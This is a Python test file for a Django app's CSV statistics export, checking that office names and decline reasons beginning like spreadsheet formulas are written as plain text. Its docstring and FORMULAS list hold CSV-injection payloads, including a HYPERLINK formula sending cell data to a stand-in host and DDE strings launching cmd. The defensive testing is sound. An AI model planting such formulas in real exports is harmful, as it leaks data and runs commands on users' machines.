"""CSV downloads never hand a spreadsheet a formula: text that starts like one is made plain text.

An office name, a language or a decline reason is typed by people; opened in Excel or
LibreOffice, a cell such as `=HYPERLINK("https://evil.example/?"&A1;"Details")` would run.
"""

import csv
import io

import pytest
from django.urls import reverse

from requests.models import Offer, Request
from tests.factories.requests import OfficeFactory, StaffMemberFactory, past_request
from tests.factories.volunteers import VolunteerFactory
from tests.web.helpers import signed_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))  # English: "," between fields


@pytest.mark.parametrize("name", FORMULAS)
def test_it_writes_an_office_name_that_looks_like_a_formula_as_text(db, name):
    """The office's column in requests.csv is headed `'=HYPERLINK(...)`, shown as typed."""
    office = OfficeFactory(name=name)
    staff = StaffMemberFactory(offices=[office])
    past_request(office=office, days_ago=3)
    response = signed_in(staff).get(reverse("staff-statistics-csv", args=["requests"]))
    header = rows_of(response)[0]
    assert f"'{name}" in header, header
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header), header


def test_it_writes_a_stored_decline_reason_that_looks_like_a_formula_as_text(staff_a, office_a):
    """A reason outside the known choices is written as stored, but never as a formula."""
    need = past_request(office=office_a, days_ago=3)
    Request.objects.filter(pk=need.pk).update(status=Request.Status.UNFILLED)
    Offer.objects.create(
        request=need,
        volunteer=VolunteerFactory(),
        status=Offer.Status.DECLINED,
        decline_reason="=1+1",
    )
    rows = rows_of(signed_in(staff_a).get(reverse("staff-statistics-csv", args=["declines"])))
    assert ["'=1+1", "1"] in rows, rows


def test_it_keeps_numbers_and_harmless_text_as_they_are(staff_a, office_a):
    """Counts stay numbers a spreadsheet can sum; ordinary names get no apostrophe."""
    past_request(office=office_a, days_ago=3)
    rows = rows_of(signed_in(staff_a).get(reverse("staff-statistics-csv", args=["requests"])))
    assert rows[0][1] == office_a.name
    assert all(row[1].isdigit() for row in rows[1:]), rows
    assert sum(int(row[-1]) for row in rows[1:]) == 1
